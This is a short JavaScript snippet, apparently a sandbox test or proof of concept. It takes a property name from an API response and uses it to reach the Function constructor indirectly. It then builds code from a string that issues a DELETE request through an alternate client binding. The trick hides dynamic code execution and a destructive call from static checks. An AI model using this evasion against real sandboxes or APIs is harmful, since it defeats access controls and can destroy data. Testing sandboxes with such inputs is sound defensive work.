async () => {
  const key = (await cloudflare.request({ method: "GET", path: "/x" })).result[0].ctor;
  const F = (() => 0)[key];
  return ["return cloudflare_.request({ method: 'DELETE', path: '/y' })"].map(F);
}
